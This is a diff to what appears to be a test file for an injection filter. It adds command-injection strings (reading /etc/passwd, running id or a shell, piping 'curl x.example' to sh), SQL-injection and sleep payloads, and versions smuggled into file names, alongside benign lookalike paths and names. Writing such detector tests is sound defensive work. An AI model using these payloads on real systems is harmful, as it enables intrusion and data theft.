@@ -109,6 +109,30 @@ const further = [
   '1 and exists(select 1)',
   '1 and (select 1)>0',
   '1-(select 1)',
+  '{cat,/etc/passwd}',
+  '{id,}',
+  'x|{ls,-la}',
+  '$({id,})',
+  '$(<x)',
+  '$(/bin/id)',
+  'x|sh.png',
+  'curl x.example|sh|tee y',
+  '|$0',
+  'x|$SHELL',
+  '&calc.exe&',
+  'x&notepad.exe',
+  'x&start calc',
+  'x&id',
+  'order&id;x',
+  'id|',
+  '1 or true--',
+  '1 or not false',
+  "1') and true",
+  '1 || 1',
+  '1 or user() is not null',
+  '1 group by 1 having 1',
+  '1,sleep(5)',
+  'sleep(5)#',
 ];
 
 const honest = [
@@ -172,6 +196,19 @@ const honest = [
   '/docs/java|python',
   '/docs/who exists (and why)',
   '/docs/keyboard & cmd keys',
+  '/wiki/Sleep(2)',
+  '/man/sleep(3)/see-also',
+  '/music/Deep Sleep(2)',
+  '/q/passport&id',
+  '/docs/Name&ID',
+  '/blog/etc/passwd-explained',
+  '/quiz/true or false',
+  '/quiz/Question 1/true or false',
+  '/tiles/{z},{x}',
+  '/colours/{red,green}',
+  '/wiki/Tom&Jerry.exe',
+  '/docs/stop & start again',
+  '/tags/ssh',
 ];
 
 const made = createPair(rules, createMemoryCache()).then(({ oracle, variants }) => [
@@ -236,6 +273,13 @@ const attackNames = [
   'x|cmd /c dir.png',
   '1 and exists(select 1).png',
   '1-(select 1).png',
+  '{cat,/etc/passwd}.png',
+  'x|sh.png',
+  '|sh',
+  '$(<x).png',
+  '&calc.exe&.png',
+  '1 or true--.png',
+  'a&id.png',
 ];
 const honestNames = [
   'Holiday & beach.png',
@@ -264,6 +308,11 @@ const honestNames = [
   'find & replace | part 2.mp4',
   'Combo 1 - (select 2).pdf',
   'cost $(USD).csv',
+  'Sleep(2).wav',
+  'Deep Sleep(2).wav',
+  'passport&id.pdf',
+  'true or false.pdf',
+  'etc passwd-explained.pdf',
 ];
 
 /** A form with one file. */
